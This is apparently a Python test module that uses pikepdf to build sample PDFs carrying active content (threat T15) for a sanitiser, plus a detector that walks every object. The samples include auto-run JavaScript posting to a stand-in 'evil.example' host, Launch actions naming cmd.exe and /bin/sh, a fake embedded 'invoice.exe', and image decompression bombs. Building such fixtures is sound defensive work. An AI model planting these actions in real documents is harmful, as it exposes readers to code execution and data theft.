"""Exhibit PDFs carrying active content (threat T15), built with pikepdf for the tests, and
:func:`active_content` which lists what a PDF still carries, read object by object."""

from __future__ import annotations

import io
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests import exhibit_samples

ACTION_TYPES = {"/JavaScript", "/Launch", "/SubmitForm", "/ImportData", "/ResetForm"}
ACTIVE_KEYS = {"/AA", "/OpenAction", "/JS", "/JavaScript", "/EmbeddedFiles", "/EmbeddedFile"}
ACTIVE_KEYS |= {"/EF", "/AcroForm", "/XFA", "/Annots"}
ACTIVE_SUBTYPES = {"/FileAttachment", "/Widget", "/Link", "/Screen", "/RichMedia"}


def _base(label: str = "active") -> pikepdf.Pdf:
    return pikepdf.open(io.BytesIO(exhibit_samples.pdf_with_pages(label, 1)))


def _save(pdf: pikepdf.Pdf, **kwargs: object) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **kwargs)  # type: ignore[arg-type]
    return out.getvalue()


def _js(pdf: pikepdf.Pdf, code: str) -> pikepdf.Object:
    return pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String(code)))


def page_actions() -> bytes:
    """Page /AA: JavaScript when the page opens, Launch of a program when it closes."""
    pdf = _base("page-aa")
    launch = Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("calc.exe")))
    pdf.pages[0].obj.AA = Dictionary(O=_js(pdf, "app.alert('page open')"), C=launch)
    return _save(pdf)


def open_action_and_names_javascript() -> bytes:
    """Catalog /OpenAction JavaScript and a document-level script in the names tree."""
    pdf = _base("open-action")
    pdf.Root.OpenAction = _js(pdf, "app.launchURL('http://evil.example/')")
    pdf.Root.AA = Dictionary(WC=_js(pdf, "this.submitForm('http://evil.example/')"))
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("init"), _js(pdf, "app.alert(1)")]))
    )
    return _save(pdf)


def embedded_file() -> bytes:
    """An attached executable: in the names tree and as a FileAttachment annotation."""
    pdf = _base("embedded")
    stream = pdf.make_stream(b"MZ\x90\x00 not really a program")
    stream.Type = Name.EmbeddedFile
    spec = pdf.make_indirect(
        Dictionary(Type=Name.Filespec, F=String("invoice.exe"), EF=Dictionary(F=stream))
    )
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("x"), spec])))
    attachment = Dictionary(
        Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[50, 50, 80, 80], FS=spec
    )
    pdf.pages[0].obj.Annots = pdf.make_indirect(Array([pdf.make_indirect(attachment)]))
    return _save(pdf)


def link_actions() -> bytes:
    """Link annotations whose /A is JavaScript, Launch, SubmitForm and ImportData."""
    pdf = _base("links")
    actions = [
        _js(pdf, "app.alert('link')"),
        Dictionary(S=Name.Launch, F=String("/bin/sh")),
        Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("http://evil/"))),
        Dictionary(S=Name.ImportData, F=String("data.fdf")),
    ]
    links = [
        pdf.make_indirect(
            Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[10 * i, 10, 10 * i + 9, 19], A=a)
        )
        for i, a in enumerate(actions)
    ]
    pdf.pages[0].obj.Annots = Array(links)
    return _save(pdf)


def acroform() -> bytes:
    """A form: a text field (widget annotation) with a JavaScript keystroke action, and XFA."""
    pdf = _base("form")
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("amount"),
            Rect=[100, 100, 300, 120],
            AA=Dictionary(K=_js(pdf, "event.rc = false")),
            P=pdf.pages[0].obj,
        )
    )
    pdf.pages[0].obj.Annots = Array([field])
    xfa = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=xfa, NeedAppearances=True)
    return _save(pdf)


def hidden_script_in_resources() -> bytes:
    """A form XObject drawn on the page whose dictionary smuggles an /AA and a script."""
    pdf = _base("xobject")
    form = pdf.make_stream(b"0 0 m 10 10 l S")
    form.Type, form.Subtype, form.BBox = Name.XObject, Name.Form, [0, 0, 10, 10]
    form.AA = Dictionary(O=_js(pdf, "app.alert('form')"))
    form.Resources = Dictionary(Properties=Dictionary(P0=Dictionary(JS=String("app.alert(2)"))))
    page = pdf.pages[0].obj
    page.Resources.XObject = Dictionary(Fx0=form)
    page.Contents = pdf.make_stream(page.Contents.read_bytes() + b"\nq /Fx0 Do Q")
    return _save(pdf)


def postscript_xobject() -> bytes:
    """A PostScript XObject drawn on the page (run by PostScript printers)."""
    pdf = _base("ps")
    ps = pdf.make_stream(b"/Helvetica findfont 12 scalefont setfont (x) show")
    ps.Type, ps.Subtype = Name.XObject, Name.PS
    page = pdf.pages[0].obj
    page.Resources.XObject = Dictionary(Ps0=ps)
    page.Contents = pdf.make_stream(page.Contents.read_bytes() + b"\n/Ps0 Do")
    return _save(pdf)


def huge_image_xobject(side: int = 60_000) -> bytes:
    """A small PDF declaring a ``side`` x ``side`` grey image drawn on its page."""
    pdf = _base("bomb")
    image = pdf.make_stream(zlib.compress(b"\x00" * 1024))
    image.Type, image.Subtype = Name.XObject, Name.Image
    image.Width = image.Height = side
    image.ColorSpace, image.BitsPerComponent = Name.DeviceGray, 8
    image.Filter = Name.FlateDecode
    page = pdf.pages[0].obj
    page.Resources.XObject = Dictionary(Im0=image)
    page.Contents = pdf.make_stream(b"q 500 0 0 500 50 50 cm /Im0 Do Q")
    return _save(pdf)


def huge_inline_image(side: int = 60_000) -> bytes:
    """The same bomb as an inline image in the page's content stream."""
    pdf = _base("inline")
    content = f"q 100 0 0 100 0 0 cm BI /W {side} /H {side} /CS /G /BPC 8 /F /AHx ID 00> EI Q"
    pdf.pages[0].obj.Contents = pdf.make_stream(content.encode())
    return _save(pdf)


def aes256_empty_password(label: str = "aes page") -> bytes:
    """An AES-256 (R6) PDF that opens without a user password (only an owner password)."""
    pdf = _base(label)
    return _save(pdf, encryption=pikepdf.Encryption(owner="owner-secret", user="", R=6))


def active_content(data: bytes) -> list[str]:
    """Every active thing left in ``data``: keys, action types and annotation subtypes.

    Every object is read, reachable or not: each indirect object and the direct
    dictionaries and arrays nested inside it.
    """
    found: list[str] = []
    with pikepdf.open(io.BytesIO(data)) as pdf:
        for top in [pdf.trailer, *pdf.objects]:
            _collect(top, found, top=True)
    return found


def _collect(obj: pikepdf.Object, found: list[str], top: bool = False) -> None:
    if not isinstance(obj, pikepdf.Object) or (not top and obj.is_indirect):
        return  # a scalar, or an object read on its own
    if isinstance(obj, pikepdf.Array):
        for item in obj:
            _collect(item, found)
        return
    if not isinstance(obj, (pikepdf.Dictionary, pikepdf.Stream)):
        return
    keys = set(obj.keys())
    found += sorted(keys & ACTIVE_KEYS)
    if "/S" in keys and str(obj.get("/S")) in ACTION_TYPES:
        found.append(f"/S {obj.get('/S')}")
    if "/Subtype" in keys and str(obj.get("/Subtype")) in ACTIVE_SUBTYPES:
        found.append(f"/Subtype {obj.get('/Subtype')}")
    for key in keys:
        _collect(obj.get(key), found)
